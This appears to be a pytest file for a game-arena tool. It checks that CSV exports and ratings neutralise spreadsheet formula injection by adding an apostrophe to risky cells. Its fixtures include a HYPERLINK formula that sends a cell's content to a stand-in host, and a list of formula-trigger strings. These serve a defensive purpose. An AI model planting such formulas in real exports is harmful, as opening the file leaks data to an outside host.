"""CSV for spreadsheets: no text is a formula, and nothing else is changed."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from arena.core.spreadsheet import inert
from tests.arena.commands import command
from tests.arena.designs import KUHN, design, played

FORMULA = '=HYPERLINK("https://example.org/?"&A1;"see")'
PLAYERS = [{"name": FORMULA, "agent": "uniform"}, {"name": "@SUM(1;1)", "agent": "maniac"}]
GAME = {key: value for key, value in KUHN.items() if key != "contestants"}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a run of contestants whose names are formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    played(design(games=[GAME], contestants=PLAYERS), folder / "run")
    return folder


def cells(text: str) -> list[dict[str, str]]:
    """The rows of a table."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "-", "- a list", "-1/2"),
        *(" =1+1", "\x00=1", "\ufeff=1", "＝1", "＠x", "-1\n", "+1-1", "1e5".join("=-")),
    ],
)
def test_what_may_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize(
    "cell", ["", "a=1", "1+1", "-5", "+5", "-0.25", "-1e-05", "ü", "'=1", -5, -0.5, None, True]
)
def test_all_else_is_as_it_was(cell: object) -> None:
    assert inert(cell) is cell


@given(st.text())
def test_only_an_apostrophe_is_added(text: str) -> None:
    assert inert(text) in {text, f"'{text}"}
    assert inert(text)[:1] not in {"=", "@", "\t", "\r"}


def test_exported_tables_are_inert_only_where_that_is_asked_for(folder: Path) -> None:
    assert command(folder, "export", "run", "--out", "plain").status == 0
    asked = command(folder, "export", "run", "--out", "safe", "--for-spreadsheets")
    assert asked.status == 0
    for name in ("matches", "decisions", "battles"):
        before, after = (
            (folder / out / f"{name}.csv").read_text(encoding="utf-8") for out in ("plain", "safe")
        )
        assert FORMULA in {value for row in cells(before) for value in row.values()}
        assert f"'{FORMULA}" in {value for row in cells(after) for value in row.values()}
        changed = [{key: inert(value) for key, value in row.items()} for row in cells(before)]
        assert cells(after) == changed


def test_texts_are_quoted_and_numbers_stay_numbers(folder: Path) -> None:
    assert command(folder, "export", "run", "--out", "safe", "--for-spreadsheets").status == 0
    with (folder / "safe" / "matches.csv").open(encoding="utf-8", newline="") as file:
        head, *rows = csv.reader(file, quoting=csv.QUOTE_NONNUMERIC)  # unquoted is a number
    kinds: dict[str, set[type]] = {
        name: {type(row[at]) for row in rows} for at, name in enumerate(head)
    }
    assert kinds["contestant"] == {str}
    assert kinds["payoff"] == kinds["seat"] == {float}
    assert min(float(row[head.index("payoff")]) for row in rows) < 0


@pytest.mark.parametrize("method", [(), ("--method", "elo")])
def test_ratings_are_inert_where_that_is_asked_for(folder: Path, method: tuple[str, ...]) -> None:
    arguments = ("rate", "run", "--rounds", "5", "--csv", *method)
    plain, safe = (command(folder, *arguments, *more) for more in ((), ("--for-spreadsheets",)))
    names = {row["contestant"] for row in cells(plain.said)}
    assert names == {FORMULA, "@SUM(1;1)"}
    assert {row["contestant"] for row in cells(safe.said)} == {f"'{name}" for name in names}


@pytest.mark.parametrize(
    ("arguments", "right"),
    [
        (("export", "run", "--to", "parquet"), "--to csv"),
        (("rate", "run"), "--csv"),
        (("rate", "run", "--json"), "--csv"),
        (("align", "run"), "--out"),
    ],
)
def test_it_is_about_csv_alone(folder: Path, arguments: tuple[str, ...], right: str) -> None:
    done = command(folder, *arguments, "--for-spreadsheets")
    assert (done.status, done.said.count("\n")) == (2, 1)
    assert f"--for-spreadsheets is about CSV: it goes with {right}" in done.said
